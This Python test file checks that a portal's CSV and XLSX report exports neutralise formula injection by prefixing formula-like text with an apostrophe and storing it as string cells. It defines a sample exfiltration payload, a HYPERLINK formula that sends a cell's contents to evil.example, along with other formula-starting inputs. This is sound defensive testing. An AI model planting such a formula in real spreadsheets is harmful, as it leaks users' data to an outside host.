"""The one rule for text in the portal's spreadsheets (core.spreadsheets), as the reports'
downloads apply it: text that looks like a formula stays text, numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import csv_cell, csv_row, csv_unescape, xlsx_row
from reports import rendering
from tests.reports.sample import file_needs, quiet_tasks, ready_report

LEAK = '=HYPERLINK("http://evil.example/?leak="&H3,"x")'


@pytest.mark.parametrize("text", ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", LEAK])
def test_csv_text_that_starts_a_formula_gets_an_apostrophe_and_comes_back_unchanged(text):
    assert csv_cell(text) == "'" + text
    assert csv_unescape(csv_cell(text)) == text


@pytest.mark.parametrize("value", [45, -3, 2.5, "-3", "+86", "2.5", "陈敏", "", None])
def test_numbers_and_plain_text_are_written_to_csv_as_they_are(value):
    assert csv_row([value]) == [value]


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers(tmp_path):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("members")
    sheet.append(xlsx_row(sheet, [LEAK, "#REF!", "a\x00b", -3, 45, "陈敏"]))
    workbook.save(tmp_path / "out.xlsx")

    cells = next(load_workbook(tmp_path / "out.xlsx").worksheets[0].iter_rows())

    assert [cell.value for cell in cells] == [LEAK, "#REF!", "ab", -3, 45, "陈敏"]
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "n", "n", "s"]


def test_an_association_named_like_a_formula_is_text_in_the_reports_title_block(cast, monkeypatch):
    quiet_tasks(monkeypatch)
    cast.association.name = LEAK
    cast.association.save(update_fields=["name"])
    file_needs(cast)
    report = ready_report(association=cast.association)

    csv_text = rendering.render_csv(report).decode("utf-8-sig")
    workbook = load_workbook(io.BytesIO(rendering.render_xlsx(report)))

    csv_cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    assert "'" + LEAK in csv_cells
    assert LEAK not in csv_cells
    named = [
        cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == LEAK
    ]
    assert named and all(cell.data_type == "s" for cell in named)
